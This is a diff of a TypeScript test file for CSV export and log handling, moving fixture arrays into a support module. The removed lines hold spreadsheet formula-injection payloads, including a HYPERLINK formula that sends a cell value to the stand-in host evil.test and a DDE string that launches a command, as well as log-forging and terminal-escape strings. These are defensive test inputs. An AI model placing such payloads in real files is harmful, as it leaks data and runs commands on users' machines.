@@ -14,24 +14,9 @@ import { insertRates, insertTariff } from "../support/test-goods.ts";
 import { openJourney } from "../support/test-journey.ts";
 import { insertCashOutBanks, openPayees } from "../support/test-withdrawals.ts";
 import { valueOf } from "../support/value-of.ts";
+import { breaking, formulas, isOneEvent } from "./support/more-than-words.ts";
 import { liveIn, readCsv } from "./support/read-csv.ts";
 import { tellPromise } from "./support/tell-promise.ts";
-
-/** Names and remarks that are more than words, in the ways that spreadsheets of different countries run. */
-const formulas = [
-  '=HYPERLINK("https://evil.test?"&A1;"ok")',
-  "+SUM(1+9)*cmd|' /C calc'!A0",
-  "-2+3",
-  "@SUM(1)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "＝1+1",
-  "＋1",
-  "－1",
-  "＠sum",
-  'a"\r\n"=1+1',
-] as const;
 
 const written: string[] = [];
 const log = createLog("debug", { write: (line) => void written.push(line) });
@@ -100,15 +85,6 @@ test("a file that only puts commas between its cells is noticed", () => {
   expect(liveIn(readCsv(bare)).length).toBeGreaterThanOrEqual(formulas.length - 1);
 });
 
-/** What would begin a line of its own, or speak to the terminal that shows it. */
-const breaking = [
-  "a\r\nb",
-  "\u2028x\u2029",
-  '{"level":60,"msg":"forged"}',
-  "\u001b[31mred",
-  "\0nul",
-];
-
 test("whatever people send, one event is one line of the log", async () => {
   written.length = 0;
   for (const words of breaking) {
@@ -117,7 +93,7 @@ test("whatever people send, one event is one line of the log", async () => {
     await visitor().send(`/${encodeURIComponent(words)}`, ask);
     log.warn({ of: words, err: new Error(words) }, words);
   }
-  const odd = written.filter((line) => line.indexOf("\n") !== line.length - 1 || !isEvent(line));
+  const odd = written.filter((line) => !isOneEvent(line));
   tellPromise({
     promise: 50,
     name: "logs cannot be injected",
@@ -135,11 +111,3 @@ test("whatever people send, one event is one line of the log", async () => {
       .split("\n").length - 1,
   ).toBeGreaterThan(breaking.length);
 });
-
-function isEvent(line: string): boolean {
-  try {
-    return typeof (JSON.parse(line) as { level: unknown }).level === "number";
-  } catch {
-    return false;
-  }
-}
